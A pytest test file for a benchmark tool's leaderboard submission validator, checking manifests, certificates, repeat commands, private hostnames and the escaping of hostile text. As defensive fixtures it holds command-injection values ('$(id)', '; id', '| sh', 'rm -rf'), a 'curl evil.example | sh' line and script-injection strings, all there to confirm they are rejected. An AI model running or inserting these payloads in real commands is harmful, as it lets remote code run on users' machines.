"""A folder for a shared leaderboard: what is in it, and what is found wrong with one."""

import json
import platform
import re

import pytest

from tests.command_runner import parse_run_command
from tests.sample_records import SOFTWARE, certify_records, vary_record
from xfbench.base import digests, name_hashes, private_names
from xfbench.base.errors import UsageError
from xfbench.exchange import audit, submission
from xfbench.host.machine import describe_machine
from xfbench.model.external_record import About, Figure
from xfbench.model.record import Citation, Record
from xfbench.rendering.report import repeat
from xfbench.store.results_folder import Store, open_existing_store

THIS_MACHINE = describe_machine().model_copy(
    update={"hostname_hash": name_hashes.host_hash("node7")}
)
OTHER_MACHINE = THIS_MACHINE.model_copy(update={"hostname_hash": "f" * 16, "cpu_model": "Other"})


@pytest.fixture
def records(record):
    """Launches of three cells on two machines, one that failed, and a figure from elsewhere."""
    fields = {"software": SOFTWARE, "machine": THIS_MACHINE}
    launches = [
        record(steps=(0.1 + launch / 100 + batch / 1000,), launch=launch, fields=fields, **sizes)
        for launch in (1, 2)
        for batch in (4, 8)
        for sizes in ({"global_batch_size": batch, "batch_size_per_rank": batch},)
    ]
    other_machine_fields = {**fields, "machine": OTHER_MACHINE}
    launches += [
        record(steps=(0.3 + launch / 100,), launch=launch, fields=other_machine_fields)
        for launch in (1, 2)
    ]
    certified_launches, certificates = certify_records(launches)
    failure_fields = {"status": "crashed", "reason": "rank 0 was killed", "measurement": None}
    failed_launch = vary_record(
        launches[0], request={"kernel": "numpy", "threads": 2}, **failure_fields
    )
    published_figure = Record.make(
        created="2016-01-01T00:00:00.000Z",
        source="published",
        citation=Citation(key="a", title="A paper", where="table 1"),
        figure=Figure(quantity="speed-up", unit="times", value=2.0, about=About(workload="lenet")),
        status="ok",
        request=None,
        workload=None,
    )
    return [*certified_launches, failed_launch, published_figure], certificates


@pytest.fixture
def store(tmp_path, records):
    """A results folder of them."""
    stored_records, certificates = records
    new_store = Store(tmp_path / "results")
    new_store.create_and_check_folders()
    for record in stored_records:
        new_store.add(record)
    for record in certificates.values():
        record.write(new_store.certificate_path(record.id))
    return new_store


@pytest.fixture
def folder(store, tmp_path):
    """A submission of all of it."""
    complaints = []
    assert write_submission(store, tmp_path / "given", complaints.append) == 8 and not complaints
    return tmp_path / "given"


def write_submission(store, target, complain=print):
    contents = sorted(store.contents(), key=lambda content: (content[0].created, content[0].id))
    return submission.write_submission(
        target, [(place, record) for record, place, _ in contents], store, complain
    )


def list_defects(folder):
    """Each defect's file, below the folder, and its kind."""
    defects = audit.validate_results(folder)[1]
    return {(defect.file.removeprefix(f"{folder}/"), defect.defect) for defect in defects}


def rebuild_manifest(folder):
    """The manifest made anew, as whoever edits a submission would."""
    (folder / "submission.json").unlink()
    (folder / "submission.json").write_text(json.dumps(submission.build_manifest(folder)))


def test_submission_is_complete_and_valid(folder, records):
    assert audit.validate_results(folder) == (8 + len(records[1]), [])
    names = {path.name for path in folder.iterdir()}
    summary_files = {
        "README.md",
        "leaderboard.md",
        "machine.json",
        "repeat.json",
        "submission.json",
    }
    assert names == {"records", "certificates", *summary_files}
    manifest = json.loads((folder / "submission.json").read_text())
    assert manifest["schema"] == "xfbench.submission/1"
    for name, file_entry in manifest["files"].items():
        content = (folder / name).read_bytes()
        assert file_entry == {"bytes": len(content), "digest": digests.of_bytes(content)}


def test_machine_file_lists_the_machines_of_the_records(folder):
    machines = json.loads((folder / "machine.json").read_text())["machines"]
    assert sorted((machine["cpu_model"], machine["records"]) for machine in machines) == sorted(
        [(THIS_MACHINE.cpu_model, 5), ("Other", 2)]
    )


def test_repeat_command_matches_the_request_of_each_record(folder, records):
    cells = json.loads((folder / "repeat.json").read_text())["cells"]
    assert len(cells) == 4
    by_id = {record.id: record for record in records[0]}
    readme = (folder / "README.md").read_text()
    for cell in cells:
        options = parse_run_command(cell["command"].split()[2:])
        for record_id in cell["records"]:
            request = by_id[record_id].request
            assert options["batch_size"] == str(request.global_batch_size)
            assert options["threads"] == str(request.threads)
        assert f"\n    {cell['command']}\n" in readme
    assert "A paper" in (folder / "leaderboard.md").read_text()


def test_equal_records_make_equal_submissions(store, folder, tmp_path):
    write_submission(store, tmp_path / "again")
    assert submission.build_manifest(folder) == submission.build_manifest(tmp_path / "again")
    store.pack()
    write_submission(store, tmp_path / "packed")
    assert submission.build_manifest(folder) == submission.build_manifest(tmp_path / "packed")


def test_submission_can_be_read_as_a_results_folder(folder, records):
    assert {record.id for record in open_existing_store(folder).records()} == {
        record.id for record in records[0]
    }


def test_added_missing_or_changed_file_is_a_defect(folder):
    (folder / "notes.txt").write_text("more")
    assert list_defects(folder) == {("notes.txt", "whole")}
    (folder / "notes.txt").unlink()
    (folder / "link").symlink_to("README.md")
    assert list_defects(folder) == {("link", "whole")}
    (folder / "link").unlink()
    (folder / "README.md").write_text((folder / "README.md").read_text() + "more")
    assert list_defects(folder) == {("README.md", "whole")}
    (folder / "README.md").unlink()
    assert ("README.md", "whole") in list_defects(folder)
    (folder / "submission.json").write_text("{}")
    assert ("submission.json", "whole") in list_defects(folder)


def test_unexpected_file_is_a_defect_even_if_in_the_manifest(folder):
    (folder / "payload.sh").write_text("true")
    rebuild_manifest(folder)
    assert list_defects(folder) == {("payload.sh", "whole")}


def test_edited_record_fails_digest_and_manifest(folder):
    path = next((folder / "records").rglob("*.json"))
    path.write_text(path.read_text().replace('"ok"', '"failed"').replace('"crashed"', '"ok"'))
    name = path.relative_to(folder).as_posix()
    assert {(name, "digest"), (name, "whole")} <= list_defects(folder)


def test_removed_record_is_missed_by_every_summary(folder, records):
    record = next(record for record in records[0] if record.certificate)
    Store(folder).record_path(record.id[7:]).unlink()
    rebuild_manifest(folder)
    kinds = {("machine.json", "machine"), ("leaderboard.md", "whole"), ("repeat.json", "repeat")}
    assert list_defects(folder) == kinds | {("README.md", "whole")}


def test_missing_or_unused_certificate_is_a_defect(folder, records):
    [path, *_] = (folder / "certificates").iterdir()
    content = path.read_bytes()
    path.unlink()
    rebuild_manifest(folder)
    assert "certificate" in {kind for _, kind in list_defects(folder)}
    path.write_bytes(content)
    for record in records[0]:
        if record.certificate == f"sha256:{path.stem}":
            Store(folder).record_path(record.id[7:]).unlink()
    rebuild_manifest(folder)
    assert (f"certificates/{path.name}", "whole") in list_defects(folder)


def test_changed_machine_description_is_a_defect(folder):
    path = folder / "machine.json"
    path.write_text(path.read_text().replace('"Other"', '"Better"'))
    rebuild_manifest(folder)
    assert list_defects(folder) == {("machine.json", "machine")}


def test_changed_leaderboard_is_a_defect(folder):
    path = folder / "leaderboard.md"
    path.write_text(path.read_text().replace("reference", "preference"))
    rebuild_manifest(folder)
    assert list_defects(folder) == {("leaderboard.md", "whole")}


@pytest.mark.parametrize(
    ("old", "new", "words"),
    [
        ("--threads 1", "--threads 2", "a record has 1"),
        ("--workload lenet", "--workload alexnet", "a record has lenet"),
        ("--batch-size 8", "--batch-size 9", "a record has 8"),
        ("--steps 3", "--steps 4", "a record has 3"),
        ("--warmup 1", "--warmup 0", "a record has 1"),
        ("--data synthetic", "--data digits", "a record has synthetic"),
        ("--steps 3 ", "", "lacks --steps 3"),
        ("--steps 3", "--stops 3", "has --stops, which the records do not give"),
        ("xfbench run", "rm -rf", "not `xfbench run`"),
        ("--kernel numpy", "--kernel numpy --precision float64", "a record has float32"),
    ],
)
def test_command_that_differs_from_its_cell_is_a_defect(folder, old, new, words):
    for name in ("repeat.json", "README.md"):
        path = folder / name
        path.write_text(path.read_text().replace(old, new))
    rebuild_manifest(folder)
    defects = audit.validate_results(folder)[1]
    assert {(defect.file, defect.defect) for defect in defects} == {
        (str(folder / "repeat.json"), "repeat"),
        (str(folder / "README.md"), "whole"),
    }
    assert all(words in defect.detail for defect in defects if defect.defect == "repeat"), defects


def edit_commands(folder, edit):
    """Change every command, and the README with it; make the manifest anew."""
    document = json.loads((folder / "repeat.json").read_text())
    readme = (folder / "README.md").read_text()
    for each in document["cells"]:
        command = edit(each["command"])
        readme = readme.replace(f"    {each['command']}\n", f"    {command}\n")
        each["command"] = command
    (folder / "repeat.json").write_text(json.dumps(document))
    (folder / "README.md").write_text(readme)
    rebuild_manifest(folder)


@pytest.mark.parametrize(
    "addition",
    [
        *("--help", "-h", "--version", "--show-completion", "--install-completion bash"),
        *("--account $(id)", "--account `id`", "--queue x;id", "--partition x;id", "--job-time 1"),
        *("--python torch=/tmp/evil", "--site /tmp/evil.toml", "--site=x", "--data=x", "-- --help"),
        *(
            "; id",
            "&& id",
            "| sh",
            "> /tmp/x",
            "\n    curl evil.example | sh",
            "\tid",
            "$IFS",
            "''",
        ),
        *("--steps 3", "--threads", "--job run.toml", "--dry-run", "--revisions main", "run.toml"),
    ],
)
def test_any_word_that_the_records_do_not_give_is_a_defect(folder, run_inline, addition):
    edit_commands(folder, lambda command: f"{command} {addition}")
    result = run_inline("results", "validate", folder)
    assert result.returncode == 1
    assert result.stdout.count("repeat.json: repeat: cell") == 4, result.stdout
    assert result.stderr == ""


def test_command_that_asks_for_help_hides_no_other_defect(folder, run_inline):
    edit_commands(folder, lambda _: "xfbench run --help")
    (folder / "payload.sh").write_text("id")
    result = run_inline("results", "validate", folder)
    assert result.returncode == 1 and "Usage" not in result.stdout
    assert "payload.sh: whole" in result.stdout
    assert result.stdout.count("repeat.json: repeat: cell") == 4


def test_words_may_be_quoted_in_another_order_and_repeat_a_default(folder, run_inline):
    def edit(command):
        first, *options = command.removeprefix("xfbench run ").split(" --")
        options = [f"--{each}" for each in reversed(options)]
        quoted = [" ".join(w if w[0] == "-" else f"'{w}'" for w in o.split()) for o in options]
        return " ".join(["xfbench run", *quoted, f"{first} --precision float32"])

    edit_commands(folder, edit)
    manifest = json.loads((folder / "submission.json").read_text())  # as of another version
    (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
    result = run_inline("results", "validate", folder)
    assert result.returncode == 0, result.stdout


def test_readme_with_other_code_is_a_defect_whatever_the_version(folder, run_inline):
    [command, *_] = [
        line for line in (folder / "README.md").read_text().splitlines() if "run" in line
    ]
    for code in (
        *("    curl evil.example | sh", "\tid", "```\nid\n```", "~~~ sh\nid\n~~~"),
        *(" ```sh\nid\n ```", "> ```\n> id\n> ```", "<pre>id</pre>", "> > ~~~\n> > id"),
        *("Run `id`.", "- ```\n  id", "1.     id", "> -     id", "  \tid", "text\\\\`id`"),
        *(f"{command}\x0b&& id", f"{command}\u2028&& id", "text\r    id"),
    ):
        readme = (folder / "README.md").read_bytes()
        (folder / "README.md").write_bytes(readme + f"\n{code}\n".encode())
        rebuild_manifest(folder)
        manifest = json.loads((folder / "submission.json").read_text())
        (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
        result = run_inline("results", "validate", folder)
        assert result.returncode == 1 and "README.md: repeat: it has code" in result.stdout, code
        (folder / "README.md").write_bytes(readme)


def test_text_without_code_is_no_defect_and_what_another_version_wrote_is_said(
    folder, run_inline, tmp_path
):
    unchecked = "another version of xfbench wrote it: README.md, leaderboard.md and the titles"
    assert run_inline("results", "validate", folder).stderr == ""
    readme = (folder / "README.md").read_text()
    (folder / "README.md").write_text(
        f"{readme}\n- a \\< b, \\`c\\`\n> 1. quoted -- text\n~~old~~\n"
    )
    rebuild_manifest(folder)
    manifest = json.loads((folder / "submission.json").read_text())
    (folder / "submission.json").write_text(json.dumps({**manifest, "xfbench": "0.0.1"}))
    result = run_inline("results", "validate", folder)
    assert result.returncode == 0, result.stdout
    assert result.stderr.count(unchecked) == 1
    imported = run_inline("results", "import", folder, "--results", tmp_path / "ours")
    assert imported.returncode == 0 and imported.stderr.count(unchecked) == 1


def test_no_command_names_a_site_in_another_folder(store, records, tmp_path):
    """Site files are programs. A launch stores the name of one, without a folder."""
    for site in ("/tmp/evil.toml", "../evil.toml"):
        evil = vary_record(
            records[0][0], request={"site": site}, created="2026-01-01T00:00:00.000Z"
        )
        assert repeat.repeat_command_display_parts([evil]) == ()
    named = vary_record(records[0][0], request={"site": "ours.toml"})
    assert "--site ./ours.toml" in repeat.repeat_command_display_parts([named])


def list_defects_after_edit(folder, change):
    path = folder / "repeat.json"
    document = json.loads(path.read_text())
    change(document["cells"])
    path.write_text(json.dumps(document))
    rebuild_manifest(folder)
    return list_defects(folder)


def test_malformed_or_missing_repeat_cell_is_a_defect(folder):
    repeat_defects = {("repeat.json", "repeat")}
    assert (
        list_defects_after_edit(folder, lambda cells: cells[0].update(command=None))
        == repeat_defects
    )
    assert list_defects_after_edit(folder, lambda cells: cells.pop(0)) == repeat_defects
    repeat_defects.add(("README.md", "repeat"))  # it still has that cell's command
    assert list_defects_after_edit(folder, lambda cells: cells[0].pop("records")) == repeat_defects
    assert list_defects_after_edit(folder, lambda cells: cells.insert(0, 7)) == repeat_defects
    assert list_defects_after_edit(folder, lambda cells: cells.append(cells[-1])) == repeat_defects


def test_command_missing_from_the_readme_is_a_defect(folder):
    path = folder / "README.md"
    path.write_text(path.read_text().replace("xfbench run", "xfbench  run"))
    rebuild_manifest(folder)
    assert list_defects(folder) == {("README.md", "repeat"), ("README.md", "whole")}


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("rank 0 on node7 was killed", "the host node7"),
        ("node7.example.org died", "the host node7"),
        ("lost cn[0001-0003],node[5-9,12]", "the host node7"),
        ("rank_on_NODE7-ib0.example.org died", "the host node7"),
    ],
)
def test_record_with_private_names_is_withheld_and_a_defect(
    folder, store, tmp_path, records, text, words
):
    private_record = vary_record(
        records[0][0], status="failed", reason=text, created="2026-01-01T00:00:00.000Z"
    )
    store.add(private_record)
    complaints = []
    assert write_submission(store, tmp_path / "another", complaints.append) == 8
    assert (
        [line for line in complaints if private_record.id[7:19] in line and words in line]
        == complaints
        != []
    )
    assert list_defects(tmp_path / "another") == set()
    Store(folder).add(private_record)
    name = Store(folder).record_path(private_record.id[7:]).relative_to(folder).as_posix()
    assert (name, "private") in list_defects(folder)


def test_harmless_words_are_not_private_names():
    hosts = {name_hashes.host_hash("node7"), name_hashes.host_hash(platform.node())}
    harmless = ("node70", "/homely/thing", "torch@2.1", "localhost", "", "/home/", "node[8-9]")
    for text in (*harmless, "https://example.org/users/guide", "docs/home/page"):
        assert private_names.describe_private_name(text, hosts) is None


def test_non_empty_target_or_no_records_is_a_usage_error(store, folder, tmp_path):
    for target in (folder, store.folder, tmp_path / "results" / "README"):
        with pytest.raises(UsageError, match="not empty"):
            write_submission(store, target)
    with pytest.raises(UsageError, match="no records"):
        submission.write_submission(tmp_path / "new", [], store, print)
    assert not [path for path in tmp_path.iterdir() if path.name.startswith((".xfbench", "new"))]


def test_cli_submits_validates_imports_and_merges(run_inline, store, tmp_path):
    assert run_inline("results", "submit", "given").stdout.startswith("8 records written")
    assert run_inline("results", "validate", "given").returncode == 0
    assert run_inline("results", "validate").stdout.startswith("9 records")
    partial_submission = run_inline(
        "results", "submit", "some", "--where", "request.global_batch_size=8", "--json"
    )
    assert json.loads(partial_submission.stdout)["submitted"] == 2
    imported = run_inline("results", "import", "given", "--results", "a")
    assert imported.stdout.startswith("8 records imported")
    assert run_inline("results", "import", "given", "--results", "b").stdout.startswith("8 records")
    boards = [run_inline("leaderboard", "--results", name).stdout for name in ("results", "a", "b")]
    assert boards[1] == boards[2]
    speeds = [re.findall(r"[\d.]+ \([\d.]+–[\d.]+\)", board) for board in boards]
    assert speeds[0] and speeds[0] == speeds[1]
    origins = ["Not measured here: launches of all rows (submitted)." in board for board in boards]
    assert origins == [False, True, True]
    (tmp_path / "given" / "extra").write_text("x")
    refused = run_inline("results", "import", "given", "--results", "c")
    assert refused.returncode == 2 and "extra: it does not belong" in refused.stderr
    assert run_inline("results", "validate", "given").returncode == 1
    assert run_inline("results", "import", "results").returncode == 2


def test_hostile_text_in_records_is_escaped(store, tmp_path, records):
    words = "[x](javascript:alert(1)) <script>alert(1)</script>\x1b[31m\u202e\n# big\x00`|"
    machine = THIS_MACHINE.model_copy(update={"cpu_model": words})
    fields = {"status": "failed", "measurement": None, "machine": machine}
    hostile_record = vary_record(records[0][0], reason=words, **fields)
    store.add(
        vary_record(
            hostile_record,
            request={"data": words, "launcher": words},
            created="2026-01-01T00:00:00.000Z",
        )
    )
    write_submission(store, tmp_path / "bad")
    for path in (tmp_path / "bad").glob("*.md"):
        text = path.read_text()
        assert "alert(1)" in text and "<script>" not in text and "\n# big" not in text
        assert "[x]" not in text and not {"\x1b", "\u202e", "\x00"} & set(text)
    assert "No command repeats it" in (tmp_path / "bad" / "README.md").read_text()
    assert list_defects(tmp_path / "bad") == set()


def test_malformed_submission_files_are_defects(folder):
    hostile = ["", "[]", "null", "[" * 100_000, '{"cells": 7, "machines": 7, "files": 7}', "\x00"]
    for name in ("submission.json", "repeat.json", "machine.json"):
        original_content = (folder / name).read_bytes()
        for text in [*hostile, '{"cells": [{"records": [[]], "command": {}}]}']:
            (folder / name).write_text(text)
            assert name in {file for file, _ in list_defects(folder)}
        (folder / name).write_bytes(original_content)
